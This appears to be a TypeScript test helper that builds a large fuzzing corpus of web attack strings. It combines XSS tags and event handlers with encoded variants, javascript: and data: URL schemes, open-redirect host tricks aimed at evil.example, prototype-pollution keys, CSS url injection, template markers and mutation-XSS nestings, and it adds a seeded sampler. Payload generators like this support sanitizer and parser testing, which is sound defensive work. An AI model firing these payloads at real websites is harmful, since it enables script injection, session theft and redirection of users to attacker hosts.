/** Strings that try to run code, to lead or send elsewhere, or to change what every object has; all by one grammar. */

/** What each of them calls, and where each of them leads. */
const RUN = 'ran()'
export const ELSEWHERE = 'evil.example'

const cross = (...lists: readonly (readonly string[])[]): string[] =>
  lists.reduce<string[]>((all, list) => all.flatMap(begun => list.map(next => begun + next)), [''])

/** Ways to write a character, so that a reader that decodes once more finds it. */
const entity = (text: string) => [...text].map(letter => `&#${letter.codePointAt(0)};`).join('')
const percent = (text: string) => [...text].map(letter => `%${letter.charCodeAt(0).toString(16)}`).join('')
const odd = (text: string) =>
  [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter.toLowerCase())).join('')

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onclick',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
]
const ELEMENTS = [
  'img src=x',
  'svg',
  'details open',
  'input autofocus',
  'video src=x',
  'body',
  'a href=#',
  'marquee',
  'x',
  'iframe',
]
/** What closes the place that the string stands in. */
const CLOSERS = [
  '',
  '"',
  "'",
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</script>',
  '</textarea>',
  '</title>',
  '</style>',
  '</template>',
  '`',
]
const GAPS = [' ', '/', '\n', '\t', '\f', '\0']
const QUOTES = ['', '"', "'"]

const elements = (): string[] =>
  CLOSERS.flatMap(closer =>
    ELEMENTS.flatMap(element =>
      HANDLERS.flatMap((handler, index) => {
        const gap = GAPS[(index + element.length) % GAPS.length] ?? ' '
        const quote = QUOTES[(index + closer.length) % QUOTES.length] ?? ''
        const code = index % 3 ? RUN : entity(RUN)
        const plain = `<${element}${gap}${handler}=${quote}${code}${quote}>`
        return [
          `${closer}${plain}`,
          `${closer}${odd(plain)}`,
          `${closer}${entity(plain)}`,
          `${closer}x${plain.slice(0, -1)}`,
        ]
      }),
    ),
  )

const SCHEMES = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'view-source:javascript:',
  'jar:',
]
const BEFORE = ['', ' ', '\t', '\n', '\u0001', '\u00a0', '\ufeff', '/', '\\', '#', '?', '@', './', '..;/']
const spelled = (scheme: string) => [
  scheme,
  odd(scheme),
  scheme.replace(/./, letter => `${letter}\t`),
  scheme.replace(':', '\n:'),
  scheme.replace(':', '&colon;'),
  entity(scheme),
  percent(scheme),
  scheme.replace(':', '%3a'),
]
const PAYLOADS = [RUN, `//%0a${RUN}`, `<script>${RUN}</script>`, `<svg onload=${RUN}>`, `'-${RUN}-'`, `void%20${RUN}`]
const schemes = () => cross(BEFORE, SCHEMES.flatMap(spelled), PAYLOADS)

const HOSTS = [
  `//${ELSEWHERE}`,
  `\\\\${ELSEWHERE}`,
  `/\\${ELSEWHERE}`,
  `https:${ELSEWHERE}`,
  `https:/\\${ELSEWHERE}`,
  `https://shop.test@${ELSEWHERE}`,
  `https://${ELSEWHERE}#@shop.test`,
  `https://${ELSEWHERE}\\@shop.test`,
  `//${ELSEWHERE}%2f..`,
  `https://shop.test.${ELSEWHERE}`,
  `ftp://${ELSEWHERE}`,
  `//${ELSEWHERE}:443`,
  `https://xn--vil-5ia.${ELSEWHERE}`,
]
const PATHS = ['', '/', '/x.js', '/?next=1', '/%2e%2e/', '/a b', '/";x="', '/x.svg#y']
const addresses = () => cross(BEFORE, HOSTS, PATHS)

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
]
const VALUES = ['1', '{"ran":1}', '[]', 'null', '"x"']
const pollution = () => [
  ...cross(['{"'], KEYS, ['":'], VALUES, ['}']),
  ...cross(['{"a":{"'], KEYS, ['":{"polluted":'], VALUES, ['}}}']),
  ...cross(['', 'a.', 'a[', '['], KEYS, ['', ']', '.polluted', '][polluted]', '=1', '[polluted]=1']),
]

const STYLES = [
  'background:url(',
  'behavior:url(',
  '-moz-binding:url(',
  '@import url(',
  'list-style:url(',
  'content:url(',
]
const styles = () =>
  cross(['', '"', "'", '}', ';', '</style>'], STYLES, [
    `//${ELSEWHERE}/)`,
    `javascript:${RUN})`,
    '"x")',
    '\\6a avascript:x)',
  ])

/** Marks that a template, a selector, a replacement, a locale or a shell reads. */
const MARKS = [
  '%1',
  '%s',
  '$&',
  '$`',
  "$'",
  '${',
  '{{',
  '<%=',
  '#{',
  ']{',
  '\\u003c',
  '\u2028',
  '\u202e',
  '\ud800',
  '\0',
  '🐕',
]
const templates = () => [
  ...cross(MARKS, [RUN, `constructor.constructor('${RUN}')()`, ''], ['', '}', '}}', '%>', '"]', "'),"]),
  ...cross(['"', "'", ']', ')', ':has(', '[', '\\'], MARKS, ['', ']', ')', '{}']),
]

/** Parsers disagree about these. */
const NESTED = [
  '<svg><style>',
  '<math><mtext>',
  '<noscript>',
  '<table><tr><td>',
  '<select>',
  '<form><form>',
  '<!--',
  '<![CDATA[',
  '<textarea>',
  '<template>',
]
const nested = () =>
  cross(
    NESTED,
    ['', '<p title="', "<img alt='", '<mglyph><style>', '</p>'],
    [
      `<img src=x onerror=${RUN}>`,
      `</style><img src=x onerror=${RUN}>`,
      `"><svg onload=${RUN}>`,
      `<script>${RUN}</script>`,
      `--><img src=x onerror=${RUN}>`,
      `<iframe srcdoc="&lt;script>parent.${RUN}&lt;/script>">`,
      `<base href="//${ELSEWHERE}/">`,
      `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}">`,
      `<form action="//${ELSEWHERE}"><button>x</button></form>`,
      `<a href="java&#9;script:${RUN}">x</a>`,
      `<div data-widget="logout-redirect" data-url="//${ELSEWHERE}">x</div>`,
      `<input name="attributes"><input name="getAttribute">`,
    ],
  )

/** All of them, each once. */
export const attackStrings = (): string[] => [
  ...new Set([...elements(), ...schemes(), ...addresses(), ...pollution(), ...styles(), ...templates(), ...nested()]),
]

/** As many of a list as asked for, in the same order for the same seed. */
export const sample = <Item>(list: readonly Item[], count: number, seed: number): Item[] => {
  let state = seed >>> 0 || 1
  const random = () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state / 2 ** 32
  }
  const rest = [...list]
  return Array.from(
    { length: Math.min(count, list.length) },
    () => rest.splice(Math.floor(random() * rest.length), 1)[0] as Item,
  )
}
